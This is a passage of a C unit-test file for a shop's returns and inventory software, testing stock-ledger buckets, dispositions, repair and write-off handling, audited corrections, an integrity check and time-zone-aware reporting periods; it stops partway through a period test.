/* test-inventory.c — the stock ledger's buckets, the inventory figures,
 * expiring overdue returns and the stock export.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include "retour-audit-store.h"
#include "retour-catalog-store.h"
#include "retour-check.h"
#include "retour-database-private.h"
#include "retour-export.h"
#include "retour-inventory-store.h"
#include "retour-policy-store.h"
#include "retour-rma-store.h"
#include "retour-stock-store.h"
#include "retour-test-csv.h"
#include "retour-test-db.h"

#define HOUR_US (G_GINT64_CONSTANT (3600) * G_USEC_PER_SEC)
#define DAY_US (24 * HOUR_US)

typedef struct
{
  char           *dir;
  char           *path;
  RetourDatabase *db;
  RetourPolicy   *policy;
  GPtrArray      *reasons;
  GTimeZone      *tz;        /* the shop is in Amsterdam */
  gint64          customer_id;
} Fixture;

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(RetourCustomer) customer = retour_customer_new ();

  f->db = retour_test_db_new ("retour-test-inventory-XXXXXX", &f->dir, &f->path);
  f->policy = retour_policy_store_load_current (f->db, &error);
  g_assert_no_error (error);
  f->reasons = retour_policy_store_list_reasons (f->db, FALSE, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (f->reasons->len, >=, 3);
  f->tz = g_time_zone_new_identifier ("Europe/Amsterdam");
  g_assert_nonnull (f->tz);

  customer->first_name = g_strdup ("Noor");
  customer->last_name = g_strdup ("Bakker");
  retour_catalog_store_upsert_customer (f->db, customer, 0, &error);
  g_assert_no_error (error);
  f->customer_id = customer->id;
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  g_clear_pointer (&f->tz, g_time_zone_unref);
  g_clear_pointer (&f->reasons, g_ptr_array_unref);
  g_clear_pointer (&f->policy, retour_policy_free);
  g_clear_object (&f->db);
  retour_test_db_remove_dir (f->dir);
  g_free (f->path);
  g_free (f->dir);
}

/* A time in the shop's zone. */
static gint64
local_us (Fixture *f,
          int      year,
          int      month,
          int      day,
          int      hour,
          int      minute,
          int      second)
{
  g_autoptr(GDateTime) time = g_date_time_new (f->tz, year, month, day, hour, minute, second);

  return g_date_time_to_unix (time) * G_USEC_PER_SEC;
}

static gint64
utc_us (int year,
        int month,
        int day,
        int hour,
        int minute,
        int second)
{
  g_autoptr(GDateTime) time = g_date_time_new_utc (year, month, day, hour, minute, second);

  return g_date_time_to_unix (time) * G_USEC_PER_SEC;
}

static gint64
reason_id (Fixture *f,
           guint    i)
{
  return ((RetourReason *) g_ptr_array_index (f->reasons, i))->id;
}

static RetourProduct *
add_product (Fixture    *f,
             const char *sku,
             const char *title,
             gint64      initial)
{
  g_autoptr(RetourProduct) product = retour_product_new ();
  g_autoptr(GError) error = NULL;

  product->sku = g_strdup (sku);
  product->title = g_strdup (title);
  product->price = retour_money_init (2500, "EUR");
  retour_catalog_store_upsert_product (f->db, product, &error);
  g_assert_no_error (error);

  if (initial != 0)
    {
      RetourStockMovement movement = { 0 };

      movement.product_id = product->id;
      movement.delta = initial;
      movement.cause = RETOUR_STOCK_CAUSE_INITIAL;
      movement.created_us = utc_us (2026, 1, 1, 0, 0, 0);
      movement.actor = (char *) "test";
      retour_stock_store_add_movement (f->db, &movement, &error);
      g_assert_no_error (error);
    }

  return g_steal_pointer (&product);
}

/* An order placed at @ordered_us of @quantity of each product (a NULL
 * terminated list of RetourProduct* and guint pairs). */
static RetourOrder *
add_order (Fixture    *f,
           const char *number,
           gint64      ordered_us,
           gboolean    cancelled,
           ...)
{
  g_autoptr(RetourOrder) order = retour_order_new ();
  g_autoptr(GError) error = NULL;
  RetourProduct *product;
  va_list args;

  order->number = g_strdup (number);
  order->customer_id = f->customer_id;
  order->total = retour_money_init (0, "EUR");
  order->ordered_us = ordered_us;
  order->delivered_us = ordered_us + 2 * DAY_US;
  order->updated_us = ordered_us;
  order->cancelled_us = cancelled ? ordered_us + HOUR_US : 0;

  va_start (args, cancelled);
  while ((product = va_arg (args, RetourProduct *)) != NULL)
    {
      RetourOrderLine *line = retour_order_line_new ();
      guint quantity = va_arg (args, guint);

      line->product_id = product->id;
      line->sku = g_strdup (product->sku);
      line->title = g_strdup (product->title);
      line->quantity = quantity;
      line->unit_price = product->price;
      line->total = retour_money_init (product->price.minor * quantity, "EUR");
      g_ptr_array_add (order->lines, line);
    }
  va_end (args);

  retour_catalog_store_upsert_order (f->db, order, &error);
  g_assert_no_error (error);

  return g_steal_pointer (&order);
}

/* A line asking back @quantity of line @index of @order for reason
 * @reason (an index into the shop's reasons). */
static RetourRmaLine *
return_line (Fixture     *f,
             RetourOrder *order,
             guint        index,
             guint        quantity,
             guint        reason)
{
  const RetourOrderLine *ordered = g_ptr_array_index (order->lines, index);
  RetourRmaLine *line = retour_rma_line_new ();

  line->order_line_id = ordered->id;
  line->product_id = ordered->product_id;
  line->sku = g_strdup (ordered->sku);
  g_free (line->title);
  line->title = g_strdup (ordered->title);
  line->unit_price = ordered->unit_price;
  line->qty_ordered = ordered->quantity;
  line->qty_requested = quantity;
  line->reason_id = reason_id (f, reason);

  return line;
}

/* A requested return, created at @created_us, of @quantity of line @index
 * of @order for reason @reason. */
static RetourRma *
request (Fixture     *f,
         RetourOrder *order,
         gint64       created_us,
         guint        index,
         guint        quantity,
         guint        reason)
{
  RetourRma *rma = retour_rma_new ("EUR", created_us);
  g_autoptr(GError) error = NULL;

  rma->status = RETOUR_RMA_STATUS_REQUESTED;
  rma->order_id = order->id;
  rma->customer_id = order->customer_id;
  rma->policy_id = f->policy->id;
  retour_rma_add_line (rma, return_line (f, order, index, quantity, reason));

  retour_rma_store_insert (f->db, rma, "test", &error);
  g_assert_no_error (error);

  return rma;
}

/* Adds another line to a requested return. */
static void
request_more (Fixture     *f,
              RetourRma   *rma,
              RetourOrder *order,
              guint        index,
              guint        quantity,
              guint        reason)
{
  g_autoptr(GError) error = NULL;

  retour_rma_add_line (rma, return_line (f, order, index, quantity, reason));

  retour_rma_store_update (f->db, rma, "test", &error);
  g_assert_no_error (error);
}

static void
step (Fixture         *f,
      RetourRma       *rma,
      RetourRmaStatus  to,
      gint64           when_us)
{
  g_autoptr(GError) error = NULL;

  retour_rma_store_transition (f->db, rma, to, "test", NULL, when_us, &error);
  g_assert_no_error (error);
}

/* Authorizes every requested unit, due @due_us. */
static void
authorize (Fixture   *f,
           RetourRma *rma,
           gint64     when_us,
           gint64     due_us)
{
  for (guint i = 0; i < rma->lines->len; i++)
    {
      RetourRmaLine *line = g_ptr_array_index (rma->lines, i);

      line->qty_authorized = line->qty_requested;
    }
  rma->due_us = due_us;
  step (f, rma, RETOUR_RMA_STATUS_AUTHORIZED, when_us);
}

static void
receive (Fixture   *f,
         RetourRma *rma,
         gint64     when_us)
{
  for (guint i = 0; i < rma->lines->len; i++)
    {
      RetourRmaLine *line = g_ptr_array_index (rma->lines, i);

      line->qty_received = line->qty_authorized;
    }
  step (f, rma, RETOUR_RMA_STATUS_RECEIVED, when_us);
}

/* Accepts every received unit of every line with @disposition. */
static void
inspect (Fixture           *f,
         RetourRma         *rma,
         gint64             when_us,
         RetourDisposition  disposition)
{
  for (guint i = 0; i < rma->lines->len; i++)
    {
      RetourRmaLine *line = g_ptr_array_index (rma->lines, i);

      line->condition = RETOUR_CONDITION_USED;
      line->disposition = disposition;
      line->qty_accepted = line->qty_received;
    }
  step (f, rma, RETOUR_RMA_STATUS_INSPECTED, when_us);
}

static RetourProduct *
load_product (Fixture *f,
              gint64   id)
{
  g_autoptr(GError) error = NULL;
  RetourProduct *product = retour_catalog_store_load_product (f->db, id, &error);

  g_assert_no_error (error);

  return product;
}


static void
assert_check_passes (Fixture *f)
{
  retour_test_db_assert_ok (f->db, RETOUR_CHECK_QUICK);
}

/* Ledger invariants ------------------------------------------------------------- */

/* How often each kind of step happened, to know the random walk went
 * everywhere. */
static struct
{
  guint inspected;
  guint finished;
  guint finish_refused;
  guint corrected;
  guint correction_refused;
} walked;

/* What the test expects of a product, kept apart from the store. */
typedef struct
{
  RetourProduct *product;
  RetourOrder   *order;        /* plenty of it, to return from */
  gint64         levels[3];    /* by RetourStockBucket */
} Model;

static void
assert_model (Fixture *f,
              Model   *model)
{
  g_autoptr(RetourProduct) loaded = load_product (f, model->product->id);
  g_autoptr(GPtrArray) movements = NULL;
  g_autoptr(GError) error = NULL;
  gint64 sums[3] = { 0, 0, 0 };
  gint64 held, written_off;

  movements = retour_stock_store_list_movements (f->db, model->product->id, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < movements->len; i++)
    {
      const RetourStockMovement *movement = g_ptr_array_index (movements, i);

      sums[movement->bucket] += movement->delta;
    }

  held = retour_test_db_query_int (f->db, "SELECT held FROM product WHERE id = ?", model->product->id);
  written_off = retour_test_db_query_int (f->db, "SELECT written_off FROM product WHERE id = ?", model->product->id);

  /* The product's totals are the sums of its movements, and what the
   * test expects; no bucket is ever below zero. */
  g_assert_cmpint (loaded->on_hand, ==, sums[RETOUR_STOCK_BUCKET_ON_HAND]);
  g_assert_cmpint (held, ==, sums[RETOUR_STOCK_BUCKET_HELD]);
  g_assert_cmpint (written_off, ==, sums[RETOUR_STOCK_BUCKET_WRITTEN_OFF]);
  g_assert_cmpint (loaded->on_hand, ==, model->levels[RETOUR_STOCK_BUCKET_ON_HAND]);
  g_assert_cmpint (held, ==, model->levels[RETOUR_STOCK_BUCKET_HELD]);
  g_assert_cmpint (written_off, ==, model->levels[RETOUR_STOCK_BUCKET_WRITTEN_OFF]);
  for (guint b = 0; b < 3; b++)
    g_assert_cmpint (model->levels[b], >=, 0);
}

static void
random_return (Fixture *f,
               Model   *model,
               gint64   now_us)
{
  static const RetourDisposition dispositions[] = {
    RETOUR_DISPOSITION_UNDECIDED, RETOUR_DISPOSITION_RESTOCK, RETOUR_DISPOSITION_REFURBISH,
    RETOUR_DISPOSITION_REPAIR, RETOUR_DISPOSITION_RECYCLE, RETOUR_DISPOSITION_SCRAP,
    RETOUR_DISPOSITION_RETURN_TO_VENDOR, RETOUR_DISPOSITION_RETURN_TO_CUSTOMER,
  };
  g_autoptr(RetourRma) rma = request (f, model->order, now_us, 0, g_test_rand_int_range (1, 4), 0);
  RetourRmaLine *line = g_ptr_array_index (rma->lines, 0);
  RetourDisposition disposition = dispositions[g_test_rand_int_range (0, G_N_ELEMENTS (dispositions))];
  RetourStockBucket bucket;

  line->qty_authorized = g_test_rand_int_range (1, line->qty_requested + 1);
  step (f, rma, RETOUR_RMA_STATUS_AUTHORIZED, now_us);
  line->qty_received = g_test_rand_int_range (1, line->qty_authorized + 1);
  step (f, rma, RETOUR_RMA_STATUS_RECEIVED, now_us);

  /* Sometimes a return stops at receipt, awaiting inspection: nothing
   * moves yet. */
  if (g_test_rand_bit ())
    return;

  line->condition = RETOUR_CONDITION_OPENED;
  line->disposition = disposition;
  line->qty_accepted = g_test_rand_int_range (0, line->qty_received + 1);
  step (f, rma, RETOUR_RMA_STATUS_INSPECTED, now_us);

  walked.inspected++;
  if (retour_stock_disposition_get_bucket (disposition, &bucket, NULL))
    model->levels[bucket] += line->qty_accepted;
}

static void
random_finish (Fixture *f,
               Model   *model,
               gint64   now_us)
{
  RetourStockBucket to = g_test_rand_bit () ? RETOUR_STOCK_BUCKET_ON_HAND : RETOUR_STOCK_BUCKET_WRITTEN_OFF;
  gint64 held = model->levels[RETOUR_STOCK_BUCKET_HELD];
  gint64 quantity = g_test_rand_int_range (1, (gint32) held + 2);
  g_autoptr(GError) error = NULL;

  if (retour_stock_store_finish_held (f->db, model->product->id, quantity, to, "test",
                                      g_test_rand_bit () ? "bench 2" : NULL, now_us, &error))
    {
      g_assert_cmpint (quantity, <=, held);
      walked.finished++;
      model->levels[RETOUR_STOCK_BUCKET_HELD] -= quantity;
      model->levels[to] += quantity;
    }
  else
    {
      /* More than are held: refused, with the count in the message. */
      g_assert_error (error, RETOUR_STORE_ERROR, RETOUR_STORE_ERROR_INVALID);
      g_assert_cmpint (quantity, >, held);
      walked.finish_refused++;
      g_assert_nonnull (strstr (error->message, model->product->sku));
    }
}

static void
random_correction (Fixture *f,
                   Model   *model,
                   gint64   now_us)
{
  RetourStockBucket bucket = g_test_rand_int_range (0, 3);
  gint64 delta = g_test_rand_int_range (-6, 6);
  gboolean with_note = g_test_rand_int_range (0, 5) > 0;
  g_autoptr(GError) error = NULL;

  if (delta == 0)
    delta = 1;

  if (retour_stock_store_correct (f->db, model->product->id, bucket, delta, "test",
                                  with_note ? "Counted again" : "  ", now_us, &error))
    {
      g_assert_true (with_note);
      walked.corrected++;
      model->levels[bucket] += delta;
    }
  else
    {
      g_assert_error (error, RETOUR_STORE_ERROR, RETOUR_STORE_ERROR_INVALID);
      g_assert_true (!with_note || model->levels[bucket] + delta < 0);
      walked.correction_refused++;
    }
}

static void
test_ledger_invariants (Fixture       *f,
                        gconstpointer  data)
{
  Model models[3] = { { 0 } };
  gint64 now_us = utc_us (2026, 11, 1, 9, 0, 0);
  guint64 audited_before;

  for (guint i = 0; i < G_N_ELEMENTS (models); i++)
    {
      g_autofree char *sku = g_strdup_printf ("RND-%u", i);
      g_autofree char *number = g_strdup_printf ("R-%u", i);

      models[i].product = add_product (f, sku, "Random thing", 5);
      models[i].levels[RETOUR_STOCK_BUCKET_ON_HAND] = 5;
      models[i].order = add_order (f, number, now_us - 30 * DAY_US, FALSE, models[i].product, 100000, NULL);
    }

  audited_before = retour_test_db_query_int (f->db, "SELECT count (*) FROM audit_event WHERE subject = 'stock'", 0);

  for (guint n = 0; n < 400; n++)
    {
      Model *model = &models[g_test_rand_int_range (0, G_N_ELEMENTS (models))];

      now_us += HOUR_US;
      switch (g_test_rand_int_range (0, 4))
        {
        case 0:
        case 1:
          random_return (f, model, now_us);
          break;
        case 2:
          random_finish (f, model, now_us);
          break;
        default:
          random_correction (f, model, now_us);
          break;
        }

      assert_model (f, model);
    }

  for (guint i = 0; i < G_N_ELEMENTS (models); i++)
    {
      assert_model (f, &models[i]);
      retour_product_free (models[i].product);
      retour_order_free (models[i].order);
    }

  /* Each finished repair, write-off and correction is in the audit
   * trail: as many entries as manual movements that changed something. */
  g_assert_cmpint (retour_test_db_query_int (f->db, "SELECT count (*) FROM audit_event WHERE subject = 'stock'", 0)
                   - (gint64) audited_before, ==,
                   retour_test_db_query_int (f->db, "SELECT count (*) FROM stock_movement WHERE cause = 'correction' "
                                             "OR (bucket = 'held' AND delta < 0)", 0));
  assert_check_passes (f);

  g_test_message ("inspected %u, finished %u (%u refused), corrected %u (%u refused)",
                  walked.inspected, walked.finished, walked.finish_refused, walked.corrected,
                  walked.correction_refused);
  g_assert_cmpuint (walked.inspected, >, 0);
  g_assert_cmpuint (walked.finished, >, 0);
  g_assert_cmpuint (walked.finish_refused, >, 0);
  g_assert_cmpuint (walked.corrected, >, 0);
  g_assert_cmpuint (walked.correction_refused, >, 0);
}

static void
test_dispositions (Fixture       *f,
                   gconstpointer  data)
{
  static const struct {
    RetourDisposition disposition;
    RetourStockBucket bucket;
    RetourStockCause  cause;
  } expected[] = {
    { RETOUR_DISPOSITION_RESTOCK, RETOUR_STOCK_BUCKET_ON_HAND, RETOUR_STOCK_CAUSE_RESTOCK },
    { RETOUR_DISPOSITION_REFURBISH, RETOUR_STOCK_BUCKET_HELD, RETOUR_STOCK_CAUSE_HOLD },
    { RETOUR_DISPOSITION_REPAIR, RETOUR_STOCK_BUCKET_HELD, RETOUR_STOCK_CAUSE_HOLD },
    { RETOUR_DISPOSITION_RECYCLE, RETOUR_STOCK_BUCKET_WRITTEN_OFF, RETOUR_STOCK_CAUSE_WRITE_OFF },
    { RETOUR_DISPOSITION_SCRAP, RETOUR_STOCK_BUCKET_WRITTEN_OFF, RETOUR_STOCK_CAUSE_WRITE_OFF },
    { RETOUR_DISPOSITION_RETURN_TO_VENDOR, RETOUR_STOCK_BUCKET_WRITTEN_OFF, RETOUR_STOCK_CAUSE_WRITE_OFF },
  };
  gint64 now_us = utc_us (2026, 11, 2, 9, 0, 0);

  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    {
      g_autoptr(RetourProduct) product = add_product (f, "DSP", "Disposed", 0);
      g_autoptr(RetourOrder) order = add_order (f, "D", now_us, FALSE, product, 3, NULL);
      g_autoptr(RetourRma) rma = request (f, order, now_us, 0, 2, 0);
      g_autoptr(GPtrArray) ledger = NULL;
      g_autoptr(GError) error = NULL;
      const RetourStockMovement *movement;

      authorize (f, rma, now_us, 0);
      receive (f, rma, now_us);
      inspect (f, rma, now_us, expected[i].disposition);

      ledger = retour_stock_store_list_ledger (f->db, product->id, 0, 10, &error);
      g_assert_no_error (error);
      g_assert_cmpuint (ledger->len, ==, 1);
      movement = g_ptr_array_index (ledger, 0);
      g_assert_cmpint (movement->bucket, ==, expected[i].bucket);
      g_assert_cmpint (movement->cause, ==, expected[i].cause);
      g_assert_cmpint (movement->delta, ==, 2);
      g_assert_cmpint (movement->rma_id, ==, rma->id);
      g_assert_cmpstr (movement->rma_number, ==, rma->number);
    }

  /* Sent back to the customer, or not decided: the shop's stock is not
   * touched. */
  {
    g_autoptr(RetourProduct) product = add_product (f, "KEEP", "Kept", 0);
    g_autoptr(RetourOrder) order = add_order (f, "K", now_us, FALSE, product, 3, NULL);
    g_autoptr(RetourRma) rma = request (f, order, now_us, 0, 1, 0);

    authorize (f, rma, now_us, 0);
    receive (f, rma, now_us);
    inspect (f, rma, now_us, RETOUR_DISPOSITION_RETURN_TO_CUSTOMER);
    g_assert_cmpint (retour_test_db_query_int (f->db, "SELECT count (*) FROM stock_movement WHERE product_id = ?",
                                               product->id), ==, 0);
  }

  assert_check_passes (f);
}

static void
test_finish_and_correct (Fixture       *f,
                         gconstpointer  data)
{
  g_autoptr(RetourProduct) product = add_product (f, "LMP-7", "Desk lamp", 10);
  g_autoptr(RetourOrder) order = add_order (f, "L", utc_us (2026, 11, 1, 9, 0, 0), FALSE, product, 5, NULL);
  g_autoptr(RetourRma) rma = request (f, order, utc_us (2026, 11, 2, 9, 0, 0), 0, 3, 0);
  g_autoptr(RetourProduct) after = NULL;
  g_autoptr(GPtrArray) audit = NULL;
  g_autoptr(GPtrArray) ledger = NULL;
  g_autoptr(GError) error = NULL;
  gint64 now_us = utc_us (2026, 11, 5, 9, 0, 0);

  authorize (f, rma, now_us, 0);
  receive (f, rma, now_us);
  inspect (f, rma, now_us, RETOUR_DISPOSITION_REPAIR);
  g_assert_cmpint (retour_test_db_query_int (f->db, "SELECT held FROM product WHERE id = ?", product->id), ==, 3);

  /* More than are held: refused, saying how many are. */
  g_assert_false (retour_stock_store_finish_held (f->db, product->id, 4, RETOUR_STOCK_BUCKET_ON_HAND,
                                                  "Sanne", NULL, now_us, &error));
  g_assert_error (error, RETOUR_STORE_ERROR, RETOUR_STORE_ERROR_INVALID);
  g_assert_cmpstr (error->message, ==, "Only 3 units of Desk lamp (LMP-7) are held.");
  g_clear_error (&error);

  /* Two repaired, one beyond repair: two movements each. */
  retour_stock_store_finish_held (f->db, product->id, 2, RETOUR_STOCK_BUCKET_ON_HAND, "Sanne", "New switch",
                                  now_us, &error);
  g_assert_no_error (error);
  retour_stock_store_finish_held (f->db, product->id, 1, RETOUR_STOCK_BUCKET_WRITTEN_OFF, "Sanne", NULL,
                                  now_us, &error);
  g_assert_no_error (error);

  after = load_product (f, product->id);
  g_assert_cmpint (after->on_hand, ==, 12);
  g_assert_cmpint (retour_test_db_query_int (f->db, "SELECT held FROM product WHERE id = ?", product->id), ==, 0);
  g_assert_cmpint (retour_test_db_query_int (f->db, "SELECT written_off FROM product WHERE id = ?", product->id), ==, 1);

  g_assert_false (retour_stock_store_finish_held (f->db, product->id, 1, RETOUR_STOCK_BUCKET_WRITTEN_OFF,
                                                  "Sanne", NULL, now_us, &error));
  g_assert_cmpstr (error->message, ==, "No units of Desk lamp (LMP-7) are held.");
  g_clear_error (&error);

  /* A correction needs a reason, and cannot take away what is not there. */
  g_assert_false (retour_stock_store_correct (f->db, product->id, RETOUR_STOCK_BUCKET_ON_HAND, -1,
                                              "Sanne", " ", now_us, &error));
  g_assert_error (error, RETOUR_STORE_ERROR, RETOUR_STORE_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_false (retour_stock_store_correct (f->db, product->id, RETOUR_STOCK_BUCKET_WRITTEN_OFF, -2,
                                              "Sanne", "Found one", now_us, &error));
  g_assert_error (error, RETOUR_STORE_ERROR, RETOUR_STORE_ERROR_INVALID);
  g_clear_error (&error);
  retour_stock_store_correct (f->db, product->id, RETOUR_STOCK_BUCKET_ON_HAND, -2, "Sanne",
                              "Two broken in the stock room", now_us + 1, &error);
  g_assert_no_error (error);

  after = (retour_product_free (after), load_product (f, product->id));
  g_assert_cmpint (after->on_hand, ==, 10);

  /* The newest first, with the return's number where there is one. */
  ledger = retour_stock_store_list_ledger (f->db, product->id, 0, 3, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (ledger->len, ==, 3);
  g_assert_cmpint (((RetourStockMovement *) ledger->pdata[0])->cause, ==, RETOUR_STOCK_CAUSE_CORRECTION);
  g_assert_cmpint (((RetourStockMovement *) ledger->pdata[0])->delta, ==, -2);
  g_assert_cmpstr (((RetourStockMovement *) ledger->pdata[0])->note, ==, "Two broken in the stock room");
  g_assert_null (((RetourStockMovement *) ledger->pdata[0])->rma_number);
  {
    g_autoptr(GPtrArray) older = retour_stock_store_list_ledger (f->db, product->id,
                                                                 ((RetourStockMovement *) ledger->pdata[2])->id,
                                                                 100, &error);
    const RetourStockMovement *hold;

    g_assert_no_error (error);
    g_assert_cmpuint (older->len, ==, 4);   /* repaired (2), hold, initial */
    hold = g_ptr_array_index (older, 2);
    g_assert_cmpint (hold->cause, ==, RETOUR_STOCK_CAUSE_HOLD);
    g_assert_cmpstr (hold->rma_number, ==, rma->number);
  }

  /* Three manual changes, three audit entries, each saying what and why. */
  audit = retour_audit_store_list (f->db, RETOUR_AUDIT_STOCK, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (audit->len, ==, 3);
  g_assert_nonnull (strstr (((RetourAuditEvent *) audit->pdata[0])->detail, "Two broken in the stock room"));
  g_assert_nonnull (strstr (((RetourAuditEvent *) audit->pdata[2])->detail, "New switch"));
  g_assert_cmpstr (((RetourAuditEvent *) audit->pdata[0])->actor, ==, "Sanne");

  assert_check_passes (f);
}

/* The check notices a bucket that does not match its movements. */
static void
test_check_finds_bucket_mismatch (Fixture       *f,
                                  gconstpointer  data)
{
  g_autoptr(RetourProduct) product = add_product (f, "CHK-1", "Checked", 4);
  g_autoptr(RetourCheckReport) report = NULL;
  g_autoptr(GError) error = NULL;

  /* A server refuses such a change at COMMIT: the check has nothing left
   * to find there. */
  if (retour_test_db_is_shared ())
    {
      retour_database_exec (f->db, "UPDATE product SET held = 2, written_off = 1", &error);
      g_assert_error (error, RETOUR_STORE_ERROR, RETOUR_STORE_ERROR_CONSTRAINT);
      assert_check_passes (f);
      return;
    }

  retour_database_exec (f->db, "DROP TRIGGER stock_movement_apply", &error);
  g_assert_no_error (error);
  retour_database_exec (f->db, "UPDATE product SET held = 2, written_off = 1", &error);
  g_assert_no_error (error);

  report = retour_check_database (f->db, RETOUR_CHECK_QUICK, 0, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (report->n_problems, ==, 2);
  g_assert_cmpstr (g_ptr_array_index (report->problems, 0), ==,
                   "Product 1 (CHK-1) has 2 held but its held stock movements add up to 0");
  g_assert_nonnull (strstr (g_ptr_array_index (report->problems, 1), "1 written off"));
}

/* Inventory figures ------------------------------------------------------------- */

typedef struct
{
  RetourProduct *tee;    /* T-shirt */
  RetourProduct *mug;
  RetourRma     *overdue;
  RetourRma     *due_today;
  RetourRma     *in_transit_overdue;
} Shop;

static void
shop_clear (Shop *shop)
{
  g_clear_pointer (&shop->tee, retour_product_free);
  g_clear_pointer (&shop->mug, retour_product_free);
  g_clear_pointer (&shop->overdue, retour_rma_free);
  g_clear_pointer (&shop->due_today, retour_rma_free);
  g_clear_pointer (&shop->in_transit_overdue, retour_rma_free);
}

G_DEFINE_AUTO_CLEANUP_CLEAR_FUNC (Shop, shop_clear)

/* Today is Wednesday 18 November 2026, 12:00 in Amsterdam (CET, +01:00).
 * "This month" starts on 1 November 00:00 local, 31 October 23:00 UTC. */
static gint64
today_noon (Fixture *f)
{
  return local_us (f, 2026, 11, 18, 12, 0, 0);
}

static void
build_shop (Fixture *f,
            Shop    *shop)
{
  g_autoptr(RetourOrder) october = NULL;
  g_autoptr(RetourOrder) first = NULL;
  g_autoptr(RetourOrder) cancelled = NULL;
  g_autoptr(RetourOrder) mid = NULL;
  g_autoptr(RetourOrder) later = NULL;
  g_autoptr(RetourRma) r1 = NULL;
  g_autoptr(RetourRma) r3 = NULL;
  g_autoptr(RetourRma) r4 = NULL;
  g_autoptr(RetourRma) r5 = NULL;
  g_autoptr(RetourRma) r6 = NULL;
  g_autoptr(GError) error = NULL;

  shop->tee = add_product (f, "TEE-1", "T-shirt", 20);
  shop->mug = add_product (f, "MUG-2", "Mug", 10);

  /* One second before the month: sold last month. */
  october = add_order (f, "1001", local_us (f, 2026, 10, 31, 23, 59, 59), FALSE, shop->tee, 4, NULL);
  /* On the stroke of midnight: this month. */
  first = add_order (f, "1002", local_us (f, 2026, 11, 1, 0, 0, 0), FALSE, shop->tee, 2, shop->mug, 1, NULL);
  cancelled = add_order (f, "1003", local_us (f, 2026, 11, 3, 10, 0, 0), TRUE, shop->tee, 5, NULL);
  mid = add_order (f, "1004", local_us (f, 2026, 11, 15, 10, 0, 0), FALSE, shop->mug, 6, NULL);
  later = add_order (f, "1005", local_us (f, 2026, 11, 16, 10, 0, 0), FALSE, shop->tee, 3, NULL);

  /* r1: 2 tees back and on the shelf. */
  r1 = request (f, october, local_us (f, 2026, 11, 2, 9, 0, 0), 0, 2, 0);
  authorize (f, r1, local_us (f, 2026, 11, 2, 10, 0, 0), local_us (f, 2026, 11, 16, 10, 0, 0));
  receive (f, r1, local_us (f, 2026, 11, 3, 10, 0, 0));
  inspect (f, r1, local_us (f, 2026, 11, 4, 10, 0, 0), RETOUR_DISPOSITION_RESTOCK);

  /* The overdue one: a tee and a mug, due yesterday. */
  shop->overdue = request (f, first, local_us (f, 2026, 11, 5, 9, 0, 0), 0, 1, 1);
  request_more (f, shop->overdue, first, 1, 1, 0);
  authorize (f, shop->overdue, local_us (f, 2026, 11, 5, 10, 0, 0), local_us (f, 2026, 11, 17, 23, 59, 59));

  /* r3: asked for last month, one second before midnight; received at
   * midnight, so it came back this month; not inspected yet. */
  r3 = request (f, october, local_us (f, 2026, 10, 31, 23, 59, 59), 0, 1, 1);
  authorize (f, r3, local_us (f, 2026, 10, 31, 23, 59, 59), local_us (f, 2026, 11, 14, 0, 0, 0));
  receive (f, r3, local_us (f, 2026, 11, 1, 0, 0, 0));

  /* r4: two mugs asked for, then cancelled: not a return. */
  r4 = request (f, mid, local_us (f, 2026, 11, 15, 12, 0, 0), 0, 2, 2);
  step (f, r4, RETOUR_RMA_STATUS_CANCELLED, local_us (f, 2026, 11, 15, 13, 0, 0));

  /* r5: a mug to repair, repaired since. */
  r5 = request (f, mid, local_us (f, 2026, 11, 15, 14, 0, 0), 0, 1, 2);
  authorize (f, r5, local_us (f, 2026, 11, 15, 15, 0, 0), local_us (f, 2026, 11, 29, 0, 0, 0));
  receive (f, r5, local_us (f, 2026, 11, 16, 9, 0, 0));
  inspect (f, r5, local_us (f, 2026, 11, 16, 10, 0, 0), RETOUR_DISPOSITION_REPAIR);
  retour_stock_store_finish_held (f->db, shop->mug->id, 1, RETOUR_STOCK_BUCKET_ON_HAND, "test", NULL,
                                  local_us (f, 2026, 11, 17, 10, 0, 0), &error);
  g_assert_no_error (error);

  /* r6: two broken mugs, scrapped. */
  r6 = request (f, mid, local_us (f, 2026, 11, 15, 16, 0, 0), 0, 2, 2);
  authorize (f, r6, local_us (f, 2026, 11, 15, 17, 0, 0), local_us (f, 2026, 11, 29, 0, 0, 0));
  receive (f, r6, local_us (f, 2026, 11, 17, 9, 0, 0));
  inspect (f, r6, local_us (f, 2026, 11, 17, 10, 0, 0), RETOUR_DISPOSITION_SCRAP);

  /* Due today: not overdue until tomorrow. */
  shop->due_today = request (f, later, local_us (f, 2026, 11, 16, 12, 0, 0), 0, 3, 0);
  authorize (f, shop->due_today, local_us (f, 2026, 11, 16, 13, 0, 0), local_us (f, 2026, 11, 18, 0, 0, 0));

  /* In transit, due on the 10th: overdue too (the parcel may be lost). */
  shop->in_transit_overdue = request (f, later, local_us (f, 2026, 11, 16, 14, 0, 0), 0, 1, 0);
  authorize (f, shop->in_transit_overdue, local_us (f, 2026, 11, 16, 15, 0, 0), local_us (f, 2026, 11, 10, 12, 0, 0));
  step (f, shop->in_transit_overdue, RETOUR_RMA_STATUS_IN_TRANSIT, local_us (f, 2026, 11, 16, 16, 0, 0));
}

static const RetourProductInventory *
find_product (RetourInventory *inventory,
              gint64           id)
{
  for (guint i = 0; i < inventory->products->len; i++)
    if (((RetourProductInventory *) inventory->products->pdata[i])->product_id == id)
      return inventory->products->pdata[i];

  g_assert_not_reached ();
}

static void
test_periods (Fixture       *f,
              gconstpointer  data)
{
  gint64 since_us, until_us;

  /* The calendar of the shop's zone, summer time and all. */
  retour_inventory_period_get_range (RETOUR_INVENTORY_PERIOD_THIS_MONTH, f->tz, today_noon (f), &since_us, &until_us);
  g_assert_cmpint (since_us, ==, utc_us (2026, 10, 31, 23, 0, 0));
  g_assert_cmpint (until_us, ==, 0);

  /* Today and the 29 days before: from 20 October, still summer time. */
  retour_inventory_period_get_range (RETOUR_INVENTORY_PERIOD_LAST_30_DAYS, f->tz, today_noon (f), &since_us, &until_us);
